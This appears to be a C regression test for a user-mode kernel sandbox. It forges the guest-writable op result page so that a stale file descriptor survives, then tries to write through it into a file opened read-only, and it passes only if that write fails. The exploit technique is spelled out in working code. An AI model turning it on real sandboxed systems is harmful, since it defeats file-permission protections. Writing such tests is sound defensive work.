/* HOSTILE (run only under umk): the op result page (0x7fff40001000) is
 * guest-writable, and the kernel takes its done_seq/done_count/results as
 * the op thread's answer. We announce "batch done, all succeeded" before a
 * file mmap that the host refuses (MAP_FIXED at address 0: EPERM below
 * mmap_min_addr): the kernel skips its cleanup close, so the stub keeps the
 * received fd at 0. The next mmap of another file is then done with fd 0,
 * the stale one: a file opened read-only comes back as a writable shared
 * mapping. Passes when the read-only file is unchanged. */
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <stdint.h>
#include <stdio.h>
#include <string.h>
#include <sys/mman.h>
#include <unistd.h>

struct result_page {
  volatile uint32_t done_seq, done_count;
  volatile int64_t results[32];
};
#define RES ((struct result_page *)0x7fff40001000UL)

int main(void) {
  char page[4096] = "ORIGINAL";
  int fd = open("/dev/shm/hostile_fork_victim", O_RDWR | O_CREAT | O_TRUNC, 0644);
  if (fd < 0) { perror("create victim"); return 2; }
  if (write(fd, page, sizeof page) != (ssize_t)sizeof page) { perror("write victim"); return 2; }
  close(fd);
  /* As root: the victim belongs to root and we become uid 1000. Otherwise
   * a read-only descriptor of our own file makes the same point. */
  if (geteuid() == 0 && (setresgid(1000, 1000, 1000) || setresuid(1000, 1000, 1000))) { perror("drop"); return 2; }
  int ro = open("/dev/shm/hostile_fork_victim", O_RDONLY);
  if (ro < 0) { perror("open read-only"); return 2; }
  void *q = mmap(NULL, 4096, PROT_READ | PROT_WRITE, MAP_SHARED, ro, 0);
  if (q != MAP_FAILED || errno != EACCES) { printf("FAIL: writable shared map of a read-only fd allowed directly\n"); return 1; }

  /* the forgery: the next batch "succeeded" before the op thread saw it */
  uint32_t seq = RES->done_seq;
  for (int i = 0; i < 3; i++) RES->results[i] = 0;
  RES->done_count = 3;
  __atomic_store_n(&RES->done_seq, seq + 1, __ATOMIC_SEQ_CST);
  void *z = mmap((void *)0, 4096, PROT_READ, MAP_SHARED | MAP_FIXED, ro, 0);
  printf("mmap(0) with forged results: %p\n", z);
  usleep(100000);

  int mine = open("/dev/shm/hostile_fork_mine", O_RDWR | O_CREAT | O_TRUNC, 0600);
  if (mine < 0 || ftruncate(mine, 4096)) { perror("mine"); return 2; }
  char *p = mmap(NULL, 4096, PROT_READ | PROT_WRITE, MAP_SHARED, mine, 0);
  if (p == MAP_FAILED) { perror("map mine"); return 2; }
  printf("our own mapping reads: \"%.8s\"\n", p);
  memcpy(p, "PWNED!!!", 8);

  char now[9] = { 0 };
  int check = open("/dev/shm/hostile_fork_victim", O_RDONLY);
  if (check < 0 || pread(check, now, 8, 0) != 8) { perror("read back"); return 2; }
  printf("read-only file now: \"%s\"\n", now);
  if (memcmp(now, "ORIGINAL", 8) != 0) { printf("FAIL: wrote a file opened read-only (stale stub fd)\n"); return 1; }
  printf("PASS\n");
  return 0;
}
